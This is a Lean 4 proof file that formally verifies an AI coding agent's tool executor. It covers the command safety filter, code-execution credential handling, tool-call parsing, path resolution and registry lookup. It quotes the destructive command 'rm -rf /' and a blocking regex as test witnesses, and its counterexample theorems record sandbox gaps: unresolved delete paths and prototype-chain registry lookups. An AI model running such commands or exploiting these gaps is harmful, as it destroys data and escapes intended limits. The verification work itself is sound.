        .run_command ⟨str "rm -rf /", none, none⟩⟩).success = true ∧
    (ToolProxy.executeToolCall inToolExecutors
      (toolExecutorsRun trivWorld ⟨str "/w"⟩)
      ⟨str "t1", str "run_command",
        .run_command ⟨str "rm -rf /", none, none⟩⟩).error = none ∧
    (ToolProxy.executeToolCall inToolExecutors
      (toolExecutorsRun trivWorld ⟨str "/w"⟩)
      ⟨str "t1", str "run_command",
        .run_command ⟨str "rm -rf /", none, none⟩⟩).result =
      some (str "❌ Command blocked for safety: Command contains blocked pattern: /rm\\s+.*-rf/") := by
  refine ⟨?_, ?_, ?_⟩ <;> decide

/-- C4 (amended): for every safety-rejected command, `run_command` performs
no external operation at all (in particular it never invokes a subprocess)
and returns the blocked message naming the matched blocked pattern or the
disallowed base command; the resulting ToolResult is a success-shaped
result whose result text carries that blocked message (failure is encoded
in the text, `success` stays true and `error` stays absent). -/
theorem claim_C4_blocked_command (w : World) (ctx : MockContext)
    (p : RunCommandParams) (i : Str)
    (hblocked : (isSafeCommand p.command).safe = false) :
    (toolExecutors.run_command w ctx p).2 = [] ∧
    (toolExecutors.run_command w ctx p).1 =
      str "❌ Command blocked for safety: " ++
        (isSafeCommand p.command).reason.getD (str "undefined") ∧
    ((∃ pat ∈ BLOCKED_PATTERNS, (isSafeCommand p.command).reason =
        some (str "Command contains blocked pattern: " ++ pat.display)) ∨
      (∃ base, (isSafeCommand p.command).reason =
        some (str "Command '" ++ base ++ str "' is not in the allowed list"))) ∧
    ToolProxy.executeToolCall inToolExecutors (toolExecutorsRun w ctx)
        ⟨i, str "run_command", .run_command p⟩ =
      ⟨i, true, some (toolExecutors.run_command w ctx p).1, none⟩ := by
  have hrc : toolExecutors.run_command w ctx p =
      (str "❌ Command blocked for safety: " ++
        (isSafeCommand p.command).reason.getD (str "undefined"), []) := by
    cases hsc : isSafeCommand p.command with
    | mk safe reason =>
      cases safe with
      | true => rw [hsc] at hblocked; exact absurd hblocked (by simp)
      | false => simp [toolExecutors.run_command, hsc]
  refine ⟨by rw [hrc], by rw [hrc], ?_, ?_⟩
  · exact isSafeCommand_unsafe_reason_shape p.command hblocked
  · have hin : inToolExecutors (str "run_command") = true := by decide
    have hrun : toolExecutorsRun w ctx ⟨i, str "run_command", .run_command p⟩ =
        .ok (toolExecutors.run_command w ctx p).1 := rfl
    simp only [ToolProxy.executeToolCall, hin, if_true]
    rw [hrun]

/-- C4 witness: instantiation at the blocked command `rm -rf /`. -/
theorem claim_C4_blocked_command_witness :
    (isSafeCommand (str "rm -rf /")).safe = false ∧
    (toolExecutors.run_command trivWorld ⟨str "/w"⟩
      ⟨str "rm -rf /", none, none⟩).2 = [] :=
  ⟨by decide,
    (claim_C4_blocked_command trivWorld ⟨str "/w"⟩
      ⟨str "rm -rf /", none, none⟩ (str "t1") (by decide)).1⟩

/-- C8: with no Riza credential configured, `execute_code` performs no
external call and returns the capability-unavailable text (which names the
unavailability and carries the enablement instructions), and the proxy
wraps it as a success-shaped ToolResult, not a failure. -/
theorem claim_C8_execute_code_no_credential (w : World) (ctx : MockContext)
    (p : ExecuteCodeParams) (i : Str)
    (hkey : w.rizaKey = none) :
    toolExecutors.execute_code w ctx p = (toolExecutors.rizaUnavailableMsg, []) ∧
    ToolProxy.executeToolCall inToolExecutors (toolExecutorsRun w ctx)
        ⟨i, str "execute_code", .execute_code p⟩ =
      ⟨i, true, some toolExecutors.rizaUnavailableMsg, none⟩ ∧
    containsSub (str "unavailable") toolExecutors.rizaUnavailableMsg = true ∧
    containsSub (str "To enable code execution")
      toolExecutors.rizaUnavailableMsg = true ∧
    containsSub (str "RIZA_API_KEY") toolExecutors.rizaUnavailableMsg = true := by
  have hec : toolExecutors.execute_code w ctx p =
      (toolExecutors.rizaUnavailableMsg, []) := by
    rw [toolExecutors.execute_code, hkey]
  refine ⟨hec, ?_, by decide, by decide, by decide⟩
  have hin : inToolExecutors (str "execute_code") = true := by decide
  have hrun : toolExecutorsRun w ctx ⟨i, str "execute_code", .execute_code p⟩ =
      .ok (toolExecutors.execute_code w ctx p).1 := rfl
  simp only [ToolProxy.executeToolCall, hin, if_true]
  rw [hrun, hec]


/-- C8 witness: instantiation in the credential-less world. -/
theorem claim_C8_execute_code_no_credential_witness :
    trivWorld.rizaKey = none ∧
    toolExecutors.execute_code trivWorld ⟨str "/w"⟩
      ⟨str "python", str "print(1)", none⟩ =
      (toolExecutors.rizaUnavailableMsg, []) :=
  ⟨rfl,
    (claim_C8_execute_code_no_credential trivWorld ⟨str "/w"⟩
      ⟨str "python", str "print(1)", none⟩ (str "t1") rfl).1⟩

/-- C5: on a response carrying a single well-formed marker-delimited batch
(no earlier opening-marker occurrence, no earlier closing-marker occurrence
inside the payload, payload parsing to a batch message), `parseToolCalls`
reports the batch as found with exactly the parsed message, the visible
text is the surrounding text with the waiting-status literals removed and
trimmed, and — provided the surrounding text itself does not contain the
marker tokens or the payload — neither marker token nor the payload occurs
in the visible text. -/
theorem claim_C5_codec_roundtrip (jp : Str → Option (Option ToolCallsMessage))
    (pre mid post : Str) (msg : ToolCallsMessage)
    (h1 : ∀ i, i < pre.length →
      openMark.isPrefixOf
        ((pre ++ openMark ++ ((mid ++ closeMark) ++ post)).drop i) = false)
    (h2 : ∀ i, i < mid.length →
      closeMark.isPrefixOf ((mid ++ closeMark ++ post).drop i) = false)
    (hjp : jp (if mid.isEmpty then str "{}" else mid) = some (some msg))
    (hopen : containsSub openTok (removeAll waitingMark (pre ++ post)) = false)
    (hclose : containsSub closeTok (removeAll waitingMark (pre ++ post)) = false)
    (hmid : containsSub mid (removeAll waitingMark (pre ++ post)) = false) :
    ContinuationHandler.parseToolCalls jp
        (pre ++ openMark ++ mid ++ closeMark ++ post) =
      ⟨true, some msg, jsTrim (removeAll waitingMark (pre ++ post))⟩ ∧
    containsSub openTok (ContinuationHandler.parseToolCalls jp
      (pre ++ openMark ++ mid ++ closeMark ++ post)).cleanedResponse = false ∧
    containsSub closeTok (ContinuationHandler.parseToolCalls jp
      (pre ++ openMark ++ mid ++ closeMark ++ post)).cleanedResponse = false ∧
    containsSub mid (ContinuationHandler.parseToolCalls jp
      (pre ++ openMark ++ mid ++ closeMark ++ post)).cleanedResponse = false := by
  have hm := findMatch_parts h1 h2
  have hp : ContinuationHandler.parseToolCalls jp
      (pre ++ openMark ++ mid ++ closeMark ++ post) =
      ⟨true, some msg, jsTrim (removeAll waitingMark (pre ++ post))⟩ := by
    simp only [ContinuationHandler.parseToolCalls, hm, hjp]
  refine ⟨hp, ?_, ?_, ?_⟩ <;> rw [hp]
  · exact containsSub_jsTrim_eq_false hopen
  · exact containsSub_jsTrim_eq_false hclose
  · exact containsSub_jsTrim_eq_false hmid

/-- C5 witness: a concrete response with one embedded batch surrounded by
prose. -/
theorem claim_C5_codec_roundtrip_witness :
    ContinuationHandler.parseToolCalls
      (fun s =>
        if s = str "\x7b\"toolCalls\":[]\x7d" then
          some (some ⟨[], str "s1"⟩)
        else none)
      (str "Hello.\n" ++ openMark ++ str "\x7b\"toolCalls\":[]\x7d" ++
        closeMark ++ str "\nBye.") =
      ⟨true, some ⟨[], str "s1"⟩,
        jsTrim (removeAll waitingMark (str "Hello.\n" ++ str "\nBye."))⟩ :=
  (claim_C5_codec_roundtrip
    (fun s =>
      if s = str "\x7b\"toolCalls\":[]\x7d" then
        some (some ⟨[], str "s1"⟩)
      else none)
    (str "Hello.\n") (str "\x7b\"toolCalls\":[]\x7d") (str "\nBye.")
    ⟨[], str "s1"⟩ (by decide) (by decide) (by decide) (by decide) (by decide)
    (by decide)).1

/-- C6: when the marker pair is absent — no position carries the opening
marker followed later by the closing marker — `parseToolCalls` reports no
tool calls and returns the input string itself, unchanged. -/
theorem claim_C6_codec_identity (jp : Str → Option (Option ToolCallsMessage))
    (s : Str)
    (h : ∀ i, i < s.length →
      ¬(openMark.isPrefixOf (s.drop i) = true ∧
        containsSub closeMark (s.drop (i + openMark.length)) = true)) :
    ContinuationHandler.parseToolCalls jp s = ⟨false, none, s⟩ := by
  rw [ContinuationHandler.parseToolCalls, findMatch_eq_none h]

/-- C6 witness: a concrete marker-free input. -/
theorem claim_C6_codec_identity_witness :
    ContinuationHandler.parseToolCalls (fun _ => none)
      (str "Just some prose, no tools.") =
      ⟨false, none, str "Just some prose, no tools."⟩ :=
  claim_C6_codec_identity (fun _ => none)
    (str "Just some prose, no tools.") (by decide)

/-- C7: when the marker-delimited payload does not parse as JSON,
`parseToolCalls` reports no tool calls with the original text verbatim,
and `handleToolCallFlow` consequently executes no tool batch and sends no
continuation request (its effect trace is empty) while returning the
original text. -/
theorem claim_C7_malformed_payload (jp : Str → Option (Option ToolCallsMessage))
    (registered : Str → Bool) (run : ToolCall → Except Exn Str)
    (net : ContinuationRequest → Except Exn NetResponse)
    (pre mid post sessionId : Str) (originalMessage : Option Str)
    (h1 : ∀ i, i < pre.length →
      openMark.isPrefixOf
        ((pre ++ openMark ++ ((mid ++ closeMark) ++ post)).drop i) = false)
    (h2 : ∀ i, i < mid.length →
      closeMark.isPrefixOf ((mid ++ closeMark ++ post).drop i) = false)
    (hjp : jp (if mid.isEmpty then str "{}" else mid) = none) :
    ContinuationHandler.parseToolCalls jp
        (pre ++ openMark ++ mid ++ closeMark ++ post) =
      ⟨false, none, pre ++ openMark ++ mid ++ closeMark ++ post⟩ ∧
    ContinuationHandler.handleToolCallFlow jp registered run net
        (pre ++ openMark ++ mid ++ closeMark ++ post) sessionId
        originalMessage =
      (.ok ⟨false, none, pre ++ openMark ++ mid ++ closeMark ++ post⟩, []) := by
  have hm := findMatch_parts h1 h2
  have hp : ContinuationHandler.parseToolCalls jp
      (pre ++ openMark ++ mid ++ closeMark ++ post) =
      ⟨false, none, pre ++ openMark ++ mid ++ closeMark ++ post⟩ := by
    simp only [ContinuationHandler.parseToolCalls, hm, hjp]
  refine ⟨hp, ?_⟩
  simp only [ContinuationHandler.handleToolCallFlow, hp]

/-- C7 witness: a concrete embedded payload rejected by the JSON parser. -/
theorem claim_C7_malformed_payload_witness :
    ContinuationHandler.handleToolCallFlow (fun _ => none) (fun _ => true)
      (fun _ => .ok []) (fun _ => .ok ⟨200⟩)
      (str "Hi.\n" ++ openMark ++ str "not json" ++ closeMark ++ str "")
      (str "s1") none =
      (.ok ⟨false, none,
        str "Hi.\n" ++ openMark ++ str "not json" ++ closeMark ++ str ""⟩,
       []) :=
  (claim_C7_malformed_payload (fun _ => none) (fun _ => true)
    (fun _ => .ok []) (fun _ => .ok ⟨200⟩)
    (str "Hi.\n") (str "not json") (str "") (str "s1") none
    (by decide) (by decide) rfl).2

/-- C9 counterexample: `delete_file` with the relative path `a.txt` under
working-directory root `/w` unlinks `a.txt` as given — the ambient-relative
path — which differs from the path resolved under the root. -/
theorem claim_C9_counterexample :
    (toolExecutors.delete_file trivWorld ⟨str "/w"⟩ ⟨str "a.txt", none⟩).2 =
      [.fsUnlink (str "a.txt")] ∧
    str "a.txt" ≠ trivWorld.join (str "/w") (str "a.txt") := by
  refine ⟨?_, ?_⟩ <;> decide

/-- C9 (amended): `read_file`, `write_file`, `list_directory` and
`create_directory` address the filesystem only at the given path resolved
under the Execution Context's working-directory root (`join(workingDirectory,
path)`, with `write_file` also touching that path's parent directory);
`move_file` and `delete_file` instead pass their paths to the filesystem
exactly as given, so relative paths resolve against the ambient process
working directory. -/
theorem claim_C9_path_resolution (w : World) (ctx : MockContext) :
    (∀ p : ReadFileParams, (toolExecutors.read_file w ctx p).2 =
      [.fsRead (w.join ctx.workingDirectory p.path)]) ∧
    (∀ p : WriteFileParams,
      (toolExecutors.write_file w ctx p).2 =
        [.fsMkdir (w.dirname (w.join ctx.workingDirectory p.path))] ∨
      (toolExecutors.write_file w ctx p).2 =
        [.fsMkdir (w.dirname (w.join ctx.workingDirectory p.path)),
         .fsWrite (w.join ctx.workingDirectory p.path) p.content]) ∧
    (∀ p : ListDirectoryParams, (toolExecutors.list_directory w ctx p).2 =
      [.fsReaddir (w.join ctx.workingDirectory p.path)]) ∧
    (∀ p : CreateDirectoryParams, (toolExecutors.create_directory w ctx p).2 =
      [.fsMkdir (w.join ctx.workingDirectory p.path)]) ∧
    (∀ p : MoveFileParams,
      (toolExecutors.move_file w ctx p).2 =
        [.fsMkdir (w.dirname p.destination)] ∨
      (toolExecutors.move_file w ctx p).2 =
        [.fsMkdir (w.dirname p.destination),
         .fsRename p.source p.destination]) ∧
    (∀ p : DeleteFileParams,
      (toolExecutors.delete_file w ctx p).2 = [] ∨
      (toolExecutors.delete_file w ctx p).2 = [.fsUnlink p.path]) := by
  refine ⟨?_, ?_, ?_, ?_, ?_, ?_⟩
  · intro p
    cases hr : w.readFileF (w.join ctx.workingDirectory p.path) <;>
      simp [toolExecutors.read_file, hr]
  · intro p
    cases hm : w.mkdirF (w.dirname (w.join ctx.workingDirectory p.path)) with
    | error e => exact Or.inl (by simp [toolExecutors.write_file, hm])
    | ok u =>
      refine Or.inr ?_
      cases hw : w.writeFileF (w.join ctx.workingDirectory p.path) p.content <;>
        simp [toolExecutors.write_file, hm, hw]
  · intro p
    cases hr : w.readdirF (w.join ctx.workingDirectory p.path) <;>
      simp [toolExecutors.list_directory, hr]
  · intro p
    cases hm : w.mkdirF (w.join ctx.workingDirectory p.path) <;>
      simp [toolExecutors.create_directory, hm]
  · intro p
    cases hm : w.mkdirF (w.dirname p.destination) with
    | error e => exact Or.inl (by simp [toolExecutors.move_file, hm])
    | ok u =>
      refine Or.inr ?_
      cases hr : w.renameF p.source p.destination <;>
        simp [toolExecutors.move_file, hm, hr]
  · intro p
    by_cases hg : ((str "/").isPrefixOf p.path || containsSub (str "..") p.path ||
        (str "C:").isPrefixOf p.path) = true
    · exact Or.inl (by simp [toolExecutors.delete_file, hg])
    · refine Or.inr ?_
      cases hu : w.unlinkF p.path <;>
        simp [toolExecutors.delete_file, hg, hu]

/-- C10 counterexample: the claimed equivalence fails in both directions.
`toString` is not a registry key, yet the program's `toolName in
toolExecutors` check finds it on `Object.prototype`, so the proxy calls
the inherited `toString` and returns a success-shaped result
(`[object Undefined]`) instead of the claimed `Unknown tool: toString`
failure; and the registered `read_file`, invoked on a `parameters` value
outside its declared shape (JSON `null`), rejects — its catch block
re-destructures the null bag and throws — so the proxy returns
`success=false` for a registered tool. -/
theorem claim_C10_counterexample :
    registeredTools.contains (str "toString") = false ∧
    jsInToolExecutors (str "toString") = true ∧
    (ToolProxy.executeToolCall jsInToolExecutors
      (toolExecutorsRun trivWorld ⟨str "/w"⟩)
      ⟨str "t1", str "toString", .nullish⟩).success = true ∧
    (ToolProxy.executeToolCall jsInToolExecutors
      (toolExecutorsRun trivWorld ⟨str "/w"⟩)
      ⟨str "t1", str "toString", .nullish⟩).result =
      some (str "[object Undefined]") ∧
    (ToolProxy.executeToolCall jsInToolExecutors
      (toolExecutorsRun trivWorld ⟨str "/w"⟩)
      ⟨str "t1", str "toString", .nullish⟩).error = none ∧
    registeredTools.contains (str "read_file") = true ∧
    (ToolProxy.executeToolCall jsInToolExecutors
      (toolExecutorsRun nullParamsWorld ⟨str "/w"⟩)
      ⟨str "t2", str "read_file", .nullish⟩).success = false := by
  refine ⟨?_, ?_, ?_, ?_, ?_, ?_, ?_⟩ <;> decide

/-- C10 (amended): `ToolProxy.executeToolCall` returns `success=false`
with error `Unknown tool: <name>` whenever the call's toolName is neither
a registry key nor a property name inherited from `Object.prototype`
(the JS `in` membership check walks the prototype chain); and for every
registered toolName invoked with parameters of that tool's declared
shape, the executor's own try/catch converts all internal failures to a
returned string, so the ToolResult is `success=true` with a string
result.  The original if-and-only-if does not hold: inherited names
like `toString` pass the membership check and yield a success-shaped
result without any registered executor, and a registered executor
invoked on a parameters value outside its declared shape may reject,
yielding `success=false`. -/
theorem claim_C10_registry_boundary (w : World) (ctx : MockContext)
    (cid tn : Str) (ps : ToolParams) :
    (jsInToolExecutors tn = false →
      ToolProxy.executeToolCall jsInToolExecutors (toolExecutorsRun w ctx)
          ⟨cid, tn, ps⟩ =
        ⟨cid, false, none, some (str "Unknown tool: " ++ tn)⟩) ∧
    (registeredTools.contains tn = true →
      ps.name = tn →
      (ToolProxy.executeToolCall jsInToolExecutors (toolExecutorsRun w ctx)
          ⟨cid, tn, ps⟩).success = true ∧
      ∃ s, (ToolProxy.executeToolCall jsInToolExecutors (toolExecutorsRun w ctx)
        ⟨cid, tn, ps⟩).result = some s) := by
  refine ⟨?_, ?_⟩
  · intro h
    have h' : ¬ (jsInToolExecutors tn = true) := by
      rw [h]
      exact Bool.false_ne_true
    rw [ToolProxy.executeToolCall, if_neg h']
  · intro hreg hname
    cases ps <;> simp only [ToolParams.name] at hname <;> subst hname <;>
      first
        | exact absurd hreg (by decide)
        | exact ⟨rfl, _, rfl⟩

/-- C10 witness: an unknown name outside the prototype chain fails with
the `Unknown tool` error, and a registered call with its declared
parameter shape succeeds with a string result. -/
theorem claim_C10_registry_boundary_witness :
    jsInToolExecutors (str "nope") = false ∧
    ToolProxy.executeToolCall jsInToolExecutors
        (toolExecutorsRun trivWorld ⟨str "/w"⟩)
        ⟨str "t1", str "nope", .nullish⟩ =
      ⟨str "t1", false, none, some (str "Unknown tool: " ++ str "nope")⟩ ∧
    (ToolProxy.executeToolCall jsInToolExecutors
      (toolExecutorsRun trivWorld ⟨str "/w"⟩)
      ⟨str "t2", str "read_file", .read_file ⟨str "a.txt"⟩⟩).success = true :=
  ⟨by decide,
    (claim_C10_registry_boundary trivWorld ⟨str "/w"⟩
      (str "t1") (str "nope") .nullish).1 (by decide),
    ((claim_C10_registry_boundary trivWorld ⟨str "/w"⟩
      (str "t2") (str "read_file") (.read_file ⟨str "a.txt"⟩)).2 (by decide)
      (by decide)).1⟩

end AgentCoder
